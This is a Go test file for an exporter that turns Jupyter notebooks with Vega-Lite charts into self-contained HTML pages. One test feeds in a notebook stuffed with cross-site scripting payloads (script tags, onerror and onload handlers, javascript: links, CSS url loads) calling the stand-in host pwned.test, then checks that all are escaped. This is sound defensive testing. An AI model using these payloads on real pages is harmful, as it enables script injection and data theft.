// SPDX-License-Identifier: Apache-2.0

package export

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/gonbviz/gonbviz/internal/bundle"
	"github.com/gonbviz/gonbviz/internal/testing/browsertest"
	"golang.org/x/net/html"
)

// notebooks returns the executed example notebooks (docs/notebooks), by name.
func notebooks(t *testing.T) map[string][]byte {
	t.Helper()
	paths, err := filepath.Glob("../../docs/notebooks/*.ipynb")
	if err != nil || len(paths) == 0 {
		t.Fatalf("no notebooks in docs/notebooks: %v", err)
	}
	out := map[string][]byte{}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		out[strings.TrimSuffix(filepath.Base(p), ".ipynb")] = data
	}
	return out
}

// reshape rewrites every chart output of a notebook (one with the Vega-Lite mime type) with
// fn, which edits its mime bundle.
func reshape(t *testing.T, data []byte, fn func(bundle map[string]any)) []byte {
	t.Helper()
	var nb map[string]any
	if err := json.Unmarshal(data, &nb); err != nil {
		t.Fatal(err)
	}
	for _, c := range nb["cells"].([]any) {
		outs, _ := c.(map[string]any)["outputs"].([]any)
		for _, o := range outs {
			if d, ok := o.(map[string]any)["data"].(map[string]any); ok {
				if _, chart := d[MIMEVegaLite]; chart {
					fn(d)
				}
			}
		}
	}
	out, err := json.Marshal(nb)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// oldFormat is a notebook as older gonbviz versions wrote chart outputs: beside the
// Vega-Lite spec and the SVG, text/html with the static SVG, the spec, a copy of the
// libraries and the loader (what bundle.Chart.HTML writes for a chart alone).
func oldFormat(t *testing.T, data []byte) []byte {
	return reshape(t, data, func(d map[string]any) {
		spec, _ := d[MIMEVegaLite].(map[string]any)
		specJSON, err := json.Marshal(spec)
		if err != nil {
			t.Fatal(err)
		}
		svg, text := joined(d[MIMESVG]), joined(d[MIMEText])
		h, err := bundle.Chart{ID: bundle.NewID(), Spec: spec, SpecJSON: specJSON, SVG: svg, Text: text}.HTML()
		if err != nil {
			t.Fatal(err)
		}
		d[MIMEHTML] = h
	})
}

// joined is a notebook's text value: a string, or lines to join.
func joined(v any) string {
	if lines, ok := v.([]any); ok {
		var b strings.Builder
		for _, l := range lines {
			s, _ := l.(string)
			b.WriteString(s)
		}
		return b.String()
	}
	s, _ := v.(string)
	return s
}

// htmlOnly is an older chart output without the mime types beside its HTML: the spec and
// the SVG come out of the HTML.
func htmlOnly(t *testing.T, data []byte) []byte {
	return reshape(t, oldFormat(t, data), func(d map[string]any) {
		delete(d, MIMEVegaLite)
		delete(d, MIMESVG)
	})
}

var (
	libRE        = regexp.MustCompile(`class="` + bundle.LibClass + `"`)
	chartDivRE   = regexp.MustCompile(`<div id="([^"]+)" class="gonbviz-chart"`)
	// A load from the network: a src, or a stylesheet or other <link>. A link to follow
	// (<a href>, the data's licence in a markdown cell) is not a load.
	networkSrcRE = regexp.MustCompile(`(?i)(\bsrc="(https?:)?//[^"]*"|<link\b[^>]*\bhref="(https?:)?//[^"]*")[^>]*>`)
)

// countCharts is the number of chart outputs (Vega-Lite mime type) in a notebook.
func countCharts(t *testing.T, data []byte) int {
	n := 0
	reshape(t, data, func(map[string]any) { n++ })
	return n
}

// Every example notebook, in the outputs older gonbviz wrote (the libraries in each
// output's HTML) and in today's (no HTML), exports to a page that carries the libraries
// once, loads nothing, and has every chart with its spec and static SVG.
func TestExportNotebooks(t *testing.T) {
	for name, data := range notebooks(t) {
		want := countCharts(t, data)
		for _, variant := range []struct {
			name string
			data []byte
		}{{"old", oldFormat(t, data)}, {"new", data}, {"html-only", htmlOnly(t, data)}} {
			t.Run(name+"/"+variant.name, func(t *testing.T) {
				nb, err := Parse(variant.data)
				if err != nil {
					t.Fatal(err)
				}
				p, err := Build(nb, Options{Name: name + ".ipynb"})
				if err != nil {
					t.Fatal(err)
				}
				page, err := Compose(p)
				if err != nil {
					t.Fatal(err)
				}
				if n, copies := len(libRE.FindAll(page, -1)), min(want, 1); n != copies {
					t.Errorf("%d library copies in the page, want %d (%d charts)", n, copies, want)
				}
				if len(p.Charts) != want {
					t.Errorf("%d charts exported, the notebook has %d", len(p.Charts), want)
				}
				ids := chartDivRE.FindAllSubmatch(page, -1)
				if len(ids) != want {
					t.Errorf("%d chart elements in the page, want %d", len(ids), want)
				}
				for _, c := range p.Charts {
					if !strings.HasPrefix(c.SVG, "<svg") {
						t.Errorf("chart %s has no static SVG", c.ID)
					}
				}
				if m := networkSrcRE.Find(page); m != nil {
					t.Errorf("the page refers to the network: %s", m)
				}
				if p.Title == "" || p.Title == name+".ipynb" {
					t.Errorf("title %q: want the notebook's first heading", p.Title)
				}
				t.Logf("%d charts, %d pictures, %d KB", len(p.Charts), len(p.Pictures), len(page)>>10)
			})
		}
	}
}

// The spec taken out of an older output's HTML (gzipped or as JSON text) is the spec of
// its Vega-Lite mime type, and so is its SVG.
func TestOldOutputsGiveTheSameChart(t *testing.T) {
	for name, data := range notebooks(t) {
		a, err := Parse(data)
		if err != nil {
			t.Fatal(err)
		}
		b, err := Parse(htmlOnly(t, data))
		if err != nil {
			t.Fatal(err)
		}
		pa, err := Build(a, Options{})
		if err != nil {
			t.Fatal(err)
		}
		pb, err := Build(b, Options{})
		if err != nil {
			t.Fatal(err)
		}
		specs := func(p Page) (out []any) {
			for _, part := range p.Parts {
				if part.Chart != nil {
					var v any
					if err := json.Unmarshal(part.Chart.SpecJSON, &v); err != nil {
						t.Fatal(err)
					}
					out = append(out, v)
				}
			}
			return out
		}
		if !reflect.DeepEqual(specs(pa), specs(pb)) {
			t.Errorf("%s: the specs read from the HTML differ from the Vega-Lite mime type's", name)
		}
		for i := range pa.Charts {
			if pa.Charts[i].SVG != pb.Charts[i].SVG {
				t.Errorf("%s: chart %d's SVG read from the HTML differs from the image/svg+xml one", name, i+1)
			}
		}
	}
}

// exportTo writes a notebook's export into dir and returns its path, its number of charts
// and its number of other SVG pictures (diagrams).
func exportTo(t *testing.T, dir, name string, data []byte) (string, int, int) {
	t.Helper()
	nb, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Build(nb, Options{Name: name + ".ipynb"})
	if err != nil {
		t.Fatal(err)
	}
	page, err := Compose(p)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name+".html")
	if err := os.WriteFile(path, page, 0o644); err != nil {
		t.Fatal(err)
	}
	return path, len(p.Charts), len(p.Pictures)
}

// checkInBrowser opens an exported page in Chromium with the network blocked: with
// JavaScript, every chart becomes interactive with marks drawn; without, every chart's
// static SVG shows. Either way the other pictures (diagrams) show.
func checkInBrowser(t *testing.T, path string, charts, pictures int) browsertest.Result {
	t.Helper()
	wait := ""
	if charts == 0 {
		wait = "static" // nothing to wait for
	}
	r, err := browsertest.Run(browsertest.Job{URL: "file://" + path, JavaScript: true, WaitFor: wait})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Blocked) > 0 || len(r.PageErrors) > 0 || len(r.ConsoleErrors) > 0 {
		t.Errorf("blocked %v, page errors %v, console errors %v", r.Blocked, r.PageErrors, r.ConsoleErrors)
	}
	if len(r.Charts) != charts {
		t.Errorf("%d charts on the page, want %d", len(r.Charts), charts)
	}
	if r.VisibleCharts < charts+pictures {
		t.Errorf("%d charts and pictures visible, want %d + %d", r.VisibleCharts, charts, pictures)
	}
	for _, c := range r.Charts {
		if c.State != "interactive" || c.ViewMarks == 0 {
			t.Errorf("chart %s: state %q with %d marks (%s)", c.ID, c.State, c.ViewMarks, c.Note)
		}
	}
	off, err := browsertest.Run(browsertest.Job{URL: "file://" + path, JavaScript: false})
	if err != nil {
		t.Fatal(err)
	}
	if len(off.Charts) != charts || len(off.Blocked) > 0 || off.VisibleCharts < charts+pictures {
		t.Errorf("without JavaScript: %d charts, %d visible pictures (want %d + %d), blocked %v", len(off.Charts), off.VisibleCharts, charts, pictures, off.Blocked)
	}
	for _, c := range off.Charts {
		if !c.StaticVisible || c.State != "" {
			t.Errorf("without JavaScript, chart %s: static visible %v, state %q", c.ID, c.StaticVisible, c.State)
		}
	}
	return r
}

func TestExportInBrowser(t *testing.T) {
	browsertest.Require(t)
	dir := t.TempDir()
	nbs := notebooks(t)
	for name, data := range nbs {
		t.Run(name, func(t *testing.T) {
			path, n, pics := exportTo(t, dir, name, data)
			if want := countCharts(t, data); n != want {
				t.Errorf("%d charts exported, the notebook has %d", n, want)
			}
			checkInBrowser(t, path, n, pics)
		})
	}
	// The outputs older gonbviz versions wrote (the libraries in each output's HTML): the
	// first notebook with charts.
	t.Run("00-charts/old", func(t *testing.T) {
		path, n, pics := exportTo(t, dir, "00-old", oldFormat(t, nbs["00-charts"]))
		checkInBrowser(t, path, n, pics)
	})
}

const hostile = `<script>fetch("http://pwned.test/script")</script>`

// hostileNotebook has a hostile string in every place a notebook holds text.
func hostileNotebook(t *testing.T) []byte {
	t.Helper()
	spec := map[string]any{
		"$schema":     "https://vega.github.io/schema/vega-lite/v5.json",
		"title":       "</script>" + hostile + "\u2028title",
		"description": `"><img src=x onerror=fetch("http://pwned.test/spec")>`,
		"data":        map[string]any{"values": []any{map[string]any{"a": "</script><b>x", "b": 1}, map[string]any{"a": "y", "b": 2}}},
		"mark":        "bar",
		"encoding": map[string]any{
			"x": map[string]any{"field": "a", "type": "nominal"},
			"y": map[string]any{"field": "b", "type": "quantitative"},
		},
	}
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" onload="fetch('http://pwned.test/svg')"><rect width="60" height="40" fill="#4c78a8"/><script>fetch("http://pwned.test/svgscript")</script></svg>`
	nb := map[string]any{
		"nbformat": 4, "nbformat_minor": 5,
		"metadata": map[string]any{"kernelspec": map[string]any{"language": `go"><script>x</script>`, "name": "gonb"}},
		"cells": []any{
			map[string]any{"cell_type": "markdown", "metadata": map[string]any{}, "source": []any{
				"# Title " + hostile + "\n\n",
				"Raw: " + hostile + " <img src=x onerror=fetch('http://pwned.test/md')> <iframe src=\"http://pwned.test/frame\"></iframe>\n\n",
				"[click](javascript:fetch('http://pwned.test/link')) and ![remote](http://pwned.test/image.png)\n\n",
				"<div onclick=\"fetch('http://pwned.test/div')\">block html</div>\n",
			}},
			map[string]any{"cell_type": "code", "metadata": map[string]any{}, "execution_count": 1,
				"source": "s := \"</code></pre>" + hostile + "\"\n",
				"outputs": []any{
					map[string]any{"output_type": "stream", "name": "stdout", "text": "</pre>" + hostile + "\n"},
					map[string]any{"output_type": "stream", "name": "stderr", "text": "\x1b[31m" + hostile + "\x1b[0m\n"},
					map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{
						MIMEHTML: `<table><tr><td style="color:red;background-image:url(http://pwned.test/css)">cell</td></tr></table>` +
							hostile + `<img src="http://pwned.test/html.png"><a href="javascript:fetch('http://pwned.test/a')">a</a>` +
							`<div id="gonbviz-nb-c2-1" onmouseover="fetch('http://pwned.test/over')">takes a chart's id</div>` +
							`<style>body{background:url(http://pwned.test/style)}</style><svg><image href="http://pwned.test/svgimg"/></svg>`,
						MIMEText: "html output",
					}},
					map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{
						MIMEVegaLite: spec,
						MIMESVG:      svg,
						MIMEText:     `"><script>fetch("http://pwned.test/text")</script>`,
					}},
					map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{
						"image/png": "not base64 " + hostile,
						MIMEText:    "</pre>" + hostile,
					}},
					map[string]any{"output_type": "execute_result", "execution_count": 1, "metadata": map[string]any{}, "data": map[string]any{
						MIMEMarkdown: "**md output** " + hostile,
					}},
					map[string]any{"output_type": "error", "ename": "<b>panic</b>", "evalue": hostile,
						"traceback": []any{"\x1b[0;31m" + hostile + "\x1b[0m"}},
				}},
			map[string]any{"cell_type": "raw", "metadata": map[string]any{}, "source": hostile},
		},
	}
	out, err := json.Marshal(nb)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// Hostile strings in markdown, sources, outputs and specs come out as text: no script,
// event handler, javascript: link or network load survives, and the chart still draws
// (its title shown as written).
func TestEscaping(t *testing.T) {
	page, err := HTML(hostileNotebook(t), Options{Name: `x"><script>.ipynb`})
	if err != nil {
		t.Fatal(err)
	}
	s := string(page)
	checkInert(t, page)
	for _, bad := range []string{"url(http", "\x1b[", "\u2028", "javascript:"} {
		if strings.Contains(s, bad) {
			i := strings.Index(s, bad)
			t.Errorf("the page holds %q: …%s…", bad, s[max(0, i-80):min(len(s), i+80)])
		}
	}
	// What a reader sees of each hostile string: escaped text.
	for _, want := range []string{
		"&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;",           // the source
		"&lt;/pre&gt;&lt;script&gt;fetch(&#34;http://pwned", // the stream
		"&lt;b&gt;panic&lt;/b&gt;",                          // the error name
		"<strong>md output</strong>",                        // markdown output rendered
		">cell</td>",                                        // the table kept
		`<a href="http://pwned.test/image.png">remote</a>`,  // a remote image made a link
	} {
		if !strings.Contains(s, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if n := len(chartDivRE.FindAllString(s, -1)); n != 1 {
		t.Errorf("%d charts, want 1", n)
	}

	browsertest.Require(t)
	path := filepath.Join(t.TempDir(), "hostile.html")
	if err := os.WriteFile(path, page, 0o644); err != nil {
		t.Fatal(err)
	}
	r := checkInBrowser(t, path, 1, 0)
	// The spec's title is drawn as text, its "</script>" included.
	if len(r.Charts) == 1 && !strings.Contains(r.Charts[0].ViewSVG, "&lt;/script&gt;&lt;script&gt;fetch") {
		t.Errorf("the chart's title is not drawn as written: %.300s", r.Charts[0].ViewSVG)
	}
}

// checkInert parses a page as a browser would and fails the test on anything a notebook
// could have smuggled in: an event handler attribute, a script that is not one of the
// page's own (a chart loader, the libraries' registration, a data block), a frame, an
// embed, a style sheet beyond the page's own, an element id of a chart held twice, a
// javascript: URL, or a source loaded from elsewhere than a data: URI or the page's folder.
func checkInert(t *testing.T, page []byte) {
	t.Helper()
	z := html.NewTokenizer(bytes.NewReader(page))
	ids := map[string]int{}
	styles := 0
	inScript := false
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		tok := z.Token()
		if inScript && tt == html.TextToken {
			if !strings.HasPrefix(strings.TrimSpace(tok.Data), "// gonbviz chart loader") {
				t.Errorf("a script that is not a chart loader: %.120s", tok.Data)
			}
			continue
		}
		if tt == html.EndTagToken && tok.Data == "script" {
			inScript = false
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		switch tok.Data {
		case "iframe", "frame", "object", "embed", "link", "base", "form", "svg":
			t.Errorf("a <%s> element: %s", tok.Data, tok.String())
		case "style":
			styles++
		case "script":
			typ := ""
			for _, a := range tok.Attr {
				if a.Key == "type" {
					typ = a.Val
				}
			}
			if typ == "" {
				inScript = true
			}
		}
		for _, a := range tok.Attr {
			key, val := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(key, "on") {
				t.Errorf("an event handler: %s", tok.String())
			}
			if key == "id" {
				ids[a.Val]++
			}
			if (key == "href" || key == "src") && strings.HasPrefix(val, "javascript:") {
				t.Errorf("a javascript: URL: %s", tok.String())
			}
			if key == "src" && !strings.HasPrefix(val, "data:") && strings.Contains(val, ":") {
				t.Errorf("a source from elsewhere: %s", tok.String())
			}
		}
	}
	if styles != 1 {
		t.Errorf("%d <style> elements, want the page's own", styles)
	}
	for id, n := range ids {
		if n > 1 {
			t.Errorf("id %q held by %d elements", id, n)
		}
	}
}

// Bad input gets one clear error.
func TestParseErrors(t *testing.T) {
	for in, want := range map[string]string{
		`not json`:                          "not a Jupyter notebook",
		`{"cells": []}`:                     "no nbformat",
		`{"nbformat": 3, "worksheets": []}`: "nbformat 3 is not supported",
		`{"nbformat": 4, "cells": [{"cell_type": "code", "source": 3}]}`: "cell 1: its source",
	} {
		_, err := Parse([]byte(in))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: error %v, want %q", in, err, want)
		}
	}
	nb, err := Parse([]byte(`{"nbformat": 4, "cells": [{"cell_type": "code", "source": "", "outputs": [{"output_type": "display_data", "data": {"application/vnd.vegalite.v5+json": [1, 2]}}]}]}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Build(nb, Options{}); err == nil || !strings.Contains(err.Error(), "cell 1, output 1") || !strings.Contains(err.Error(), "not a JSON object") {
		t.Errorf("a spec that is no object: %v", err)
	}
}
